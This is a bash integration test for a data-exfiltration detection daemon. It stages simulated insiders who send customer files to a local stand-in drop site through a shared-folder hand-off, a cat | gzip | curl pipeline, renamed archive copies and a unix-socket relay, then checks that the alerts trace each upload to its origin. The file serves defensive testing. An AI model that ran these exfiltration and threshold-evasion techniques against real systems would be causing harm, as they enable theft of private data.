#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# Lineage end to end: the real daemon, real login sessions, a drop site on 127.200.10.77.
# Every insider below stays under every per-person volume threshold (bulk_read 50 MiB,
# staging 50 MiB, no collection episode at all), so only following the data can catch
# them: a hand-off through a shared folder between two users, a cat | gzip | curl
# pipeline, a copy of a copy of a copy renamed into an archive, and a unix-socket relay
# service outside any session that uploads for a user (test_lineage_db.sh: a database
# pulled through psql | gzip | curl). Each alert must name the origin
# session and user. The benign side: a labelled process that later uploads unrelated
# data (its credit bounds what counts), a user who reads a few customer files and uploads
# an unrelated file, a build, and a root backup outside any session: no alert.
. "$(dirname "$0")/../lib/itest.sh"
. "$LIB/lineage_fixture.sh"

echo "hand-off: alice copies an export to the shared folder, bob uploads it"
handoff
check "bob: derived exfiltration naming alice's session" \
	"$(derived --user bob --session "$B" --origin-session "$A" --origin-user alice \
		--hand-off true --destination $DROP)" 1
check "bob: the chain names the shared file" \
	"$(derived --session "$B" --chain-contains "$SHARE/for-bob.csv")" 1

echo "restart: alice drops another export, the daemon restarts, bob uploads it"
in_session 1101 "$T/alice2.info" cp "$SRC/customers-part2.csv" "$SHARE/after-restart.csv" ||
	die "alice workload"
kill -TERM $DAEMON
wait $DAEMON
start_daemon
in_session 1102 "$T/bob2.info" bash -c "$(upload "$SHARE/after-restart.csv")" || die "bob workload"
A2=$(info_session "$T/alice2.info"); B2=$(info_session "$T/bob2.info")
wait_alert --session "$B2"
check "labels outlive the daemon: bob's upload names alice's session" \
	"$(derived --user bob --session "$B2" --origin-session "$A2" --origin-user alice \
		--hand-off true)" 1

echo "reboot: alice drops a third export; the pinned maps go (as at a reboot); bob uploads it"
in_session 1101 "$T/alice3.info" cp "$SRC/customers-part3.csv" "$SHARE/after-reboot.csv" ||
	die "alice workload"
kill -TERM $DAEMON
wait $DAEMON
rm -rf "$EXFILMON_PIN_DIR"
start_daemon
in_session 1102 "$T/bob3.info" bash -c "$(upload "$SHARE/after-reboot.csv")" || die "bob workload"
A3=$(info_session "$T/alice3.info"); B3=$(info_session "$T/bob3.info")
wait_alert --session "$B3"
check "file labels outlive a reboot: bob's upload names alice's session" \
	"$(derived --user bob --session "$B3" --origin-session "$A3" --origin-user alice \
		--hand-off true)" 1
check "the restore was logged" "$(grep -c 'derived-file labels restored' "$T/daemon.log" |
	awk '{print ($1 > 0)}')" 1

echo "pipeline: carol runs cat | gzip | curl"
pipeline
check "carol: derived exfiltration, her own data, no hand-off" \
	"$(derived --user carol --session "$C" --origin-session "$C" --hand-off false)" 1
check "carol: the chain goes through the pipes" \
	"$(derived --session "$C" --chain-contains "pipe:[")" 1

echo "copies: dave copies a copy of a copy, renames it, archives it, uploads the archive"
in_session 1104 "$T/dave.info" bash -c "
	set -e; d=\$(mktemp -d); cd \$d
	cp $SRC/customers-part3.csv a.csv; cp a.csv b.csv; cp b.csv c.csv
	mv c.csv holiday-photos.dat; tar czf photos.tgz holiday-photos.dat
	$(upload photos.tgz); rm -rf \$d" || die "dave workload"
D=$(info_session "$T/dave.info")
wait_alert --session "$D"
check "dave: derived exfiltration of the archive, origin dave" \
	"$(derived --user dave --session "$D" --origin-user dave --chain-contains photos.tgz)" 1

echo "relay: a unix-socket service outside any session uploads for erin"
in_session --keep-root 4294967295 "$T/relay.info" python3 "$LIB/unix_relay.py" \
	--socket "$T/relay.sock" --url "http://$DROP/relay" >"$T/relay.out" 2>&1 &
# The relay runs as in_session's child: stop both (killing the wrapper alone left it).
itest_on_exit "kill $!; kill \$(info_pid $T/relay.info)"
wait_until 30 grep -q ready "$T/relay.out" || die "relay"
in_session 1105 "$T/erin.info" python3 -c "
import socket, sys
data = open('$SRC/customers-part1.csv', 'rb').read()
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.connect('$T/relay.sock'); s.sendall(data); s.close()" || die "erin workload"
E=$(info_session "$T/erin.info")
wait_alert --origin-session "$E"
check "relay: derived exfiltration judged on erin's session, hand-off, origin erin" \
	"$(derived --user erin --session "$E" --origin-user erin --hand-off true \
		--chain-contains "unix socket")" 1

echo "relay again: the same service, now labelled by erin's request, uploads for heidi"
# Only once erin's upload has ended: the alert above can come while her bytes are still
# going out, and a request taken in then is relayed with both origins' credit.
wait_until 30 grep -q uploaded "$T/relay.out" || die "relay: erin's upload did not end"
in_session 1108 "$T/heidi.info" python3 -c "
import socket, sys
data = open('$SRC/customers-part3.csv', 'rb').read()
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.connect('$T/relay.sock'); s.sendall(data); s.close()" || die "heidi workload"
HE=$(info_session "$T/heidi.info")
wait_alert --session "$HE"
check "relay: heidi's upload is judged on her session, origin heidi" \
	"$(derived --user heidi --session "$HE" --origin-user heidi --hand-off true)" 1
# What a failure needs to be understood (this output showed a renewal the collector missed).
if [ "$(derived --user heidi --session "$HE" --origin-user heidi)" != 1 ]; then
	echo "  heidi's session $HE, erin's $E; every derived alert, then the relay's output:"
	python3 -c '
import json, sys
for line in open(sys.argv[1]):
    a = json.loads(line)
    if a.get("rule", {}).get("name") != "derived_exfiltration":
        continue
    x = a.get("exfilmon", {})
    print("    ", a["event"].get("id"), a["event"].get("sequence"), a.get("user", {}).get("name"),
          "session", x.get("session_id"), "egress", x.get("egress_bytes"),
          "origins", [(o.get("user"), o.get("session_id")) for o in x.get("origins", [])],
          "hand_off", x.get("hand_off"))' "$T/alerts.jsonl"
	sed 's/^/    /' "$T/relay.out"
fi
# The relay's label renews once erin's bytes have all gone out: her session is not the
# origin of heidi's data (before, the relay kept its first origins and judged every later
# upload on erin's session).
check "relay: erin is not named as an origin of heidi's upload" \
	"$(derived --session "$HE" --origin-user erin)" 0

echo "bounded credit: frank reads a 96 KiB extract, then uploads 6 MiB of unrelated data"
in_session 1106 "$T/frank.info" python3 -c "
import http.client, os
open('$SRC/customers-small.csv', 'rb').read()
body = os.urandom(6 << 20)
c = http.client.HTTPConnection('${DROP%:*}', ${DROP#*:})
c.request('PUT', '/upload', body=body); c.getresponse().read()" || die "frank workload"
F=$(info_session "$T/frank.info")

echo "benign: grace reads a few customer files, then uploads an unrelated file"
in_session 1107 "$T/grace.info" bash -c "
	set -e; cat $SRC/customers-small.csv $SRC/customers-part2.csv >/dev/null
	d=\$(mktemp -d); head -c 4M /dev/urandom >\$d/screenshot.png
	$(upload \$d/screenshot.png); rm -rf \$d" || die "grace workload"
G=$(info_session "$T/grace.info")
echo "benign: a build, and a root backup outside any session"
in_session 1104 "$T/build.info" bash -c '
	cd $(mktemp -d) &&
	for i in $(seq 1 20); do echo "int f$i(void) { return $i; }" > f$i.c; done &&
	echo "int main(void) { return 0; }" > main.c &&
	gcc -O2 -o app *.c && ./app && tar czf build.tgz *.c app' || die "build"
in_session --keep-root 4294967295 "$T/backup.info" tar czf "$T/backup.tgz" -C "$SRC" . ||
	die "backup"
# Two poll intervals and the final drain at stop bring in whatever is still counted.
sleep 1
# A label update can fail without the map being full. Most such failures were a stream
# reader deleting an entry a writer had just created (fixed: only a read that takes the
# last credit deletes); two writers racing a reader on one stream can still lose one.
# None showed up in the runs after the fix; more than two, or any lost lineage record,
# is a failure.
read -r label_full ring_lineage < <(python3 -c "
import json; d = json.load(open('$T/status.json'))['drops']
print(d['label_full'], d['ring_lineage'])")
echo "  (label updates refused: $label_full)"
check "no lineage record lost" "$ring_lineage" 0
check "label updates refused: at most 2" "$(( label_full <= 2 ))" 1
labels_counted "after every scenario"
kill -TERM $DAEMON
wait $DAEMON
check "daemon exit status" "$?" 0

check "frank: no alert (credit bounded to what he read)" "$(alerts count --user frank)" 0
derived_frank=$("$BUILD/exfilctl" export --dir "$T/evidence" --session "$F" | python3 -c "
import json, sys
print(sum(r['data'].get('bytes', 0) for r in map(json.loads, sys.stdin)
          if r['type'] == 'activity' and r['data'].get('kind') == 'derived_egress'))")
small=$(stat -c %s "$SRC/customers-small.csv")
check "frank: derived egress counted, at most the extract's size" \
	"$(python3 -c "print(0 < $derived_frank <= $small)")" True
check "grace: no alert" "$(alerts count --session "$G")" 0
check "build: no alert" "$(alerts count --session "$(info_session "$T/build.info")")" 0
check "backup outside a session: no alert" "$(alerts count --session-none)" 0
check "no volume rule fired for anyone (all under the per-person thresholds)" \
	"$(alerts count) $(derived)" "7 7"
check "lineage records in the evidence" \
	"$("$BUILD/exfilctl" export --dir "$T/evidence" | grep -c '"type":"lineage"' |
		awk '{print ($1 > 0)}')" 1
echo "investigation: exfilctl lineage and timeline"
"$BUILD/exfilctl" lineage --dir "$T/evidence" --file "$SHARE/for-bob.csv" >"$T/lin-file.txt"
check "lineage --file: alice's cp wrote it, bob's curl read it and sent it to the drop site" \
	"$(grep -c "cp([0-9]*) session $A wrote file $SHARE/for-bob.csv" "$T/lin-file.txt") \
$(grep -c "curl([0-9]*) session $B read file $SHARE/for-bob.csv" "$T/lin-file.txt") \
$(grep -c "curl([0-9]*) session $B sent to peer $DROP" "$T/lin-file.txt")" "1 1 1"
check "lineage --file: the sources alice's cp read" \
	"$(grep -c "cp([0-9]*) read source $SRC/customers-part1.csv" "$T/lin-file.txt")" 1
ID=$(python3 -c "
import json
for l in open('$T/alerts.jsonl'):
    a = json.loads(l)
    if a['rule']['name'] == 'derived_exfiltration' and a['exfilmon']['session_id'] == $B:
        print(a['exfilmon']['alert_id']); break")
"$BUILD/exfilctl" lineage --dir "$T/evidence" --alert "$ID" >"$T/lin-alert.txt"
check "lineage --alert: hand-off, alice's session, the shared file, the drop site" \
	"$(grep -c "^hand-off: yes" "$T/lin-alert.txt") $(grep -c "alice session $A" "$T/lin-alert.txt") \
$(grep -c "file $SHARE/for-bob.csv" "$T/lin-alert.txt") $(grep -c "sent to $DROP" "$T/lin-alert.txt")" \
	"1 1 1 1"
"$BUILD/exfilctl" timeline --dir "$T/evidence" --session "$B" >"$T/timeline.txt"
check_ge "timeline shows bob's lineage steps" "$(grep -c " lineage " "$T/timeline.txt")" 2
"$BUILD/exfilctl" report --dir "$T/evidence" --session "$B" -o "$T/report.html"
check "report shows the hand-off chain" \
	"$(grep -c "hand-off: yes; origins: alice (session $A)" "$T/report.html")" 1
check "drop site received every upload" "$(test -s "$T/drop.count" && echo yes)" yes
"$BUILD/exfilctl" verify --dir "$T/evidence" >/dev/null 2>&1
check "evidence verifies" "$?" 0
[ "$FAIL" = 0 ] || { echo "alerts:"; cat "$T/alerts.jsonl"; [ -n "${KEEP_DIR:-}" ] && cp -a "$T" "$KEEP_DIR"; }
itest_finish
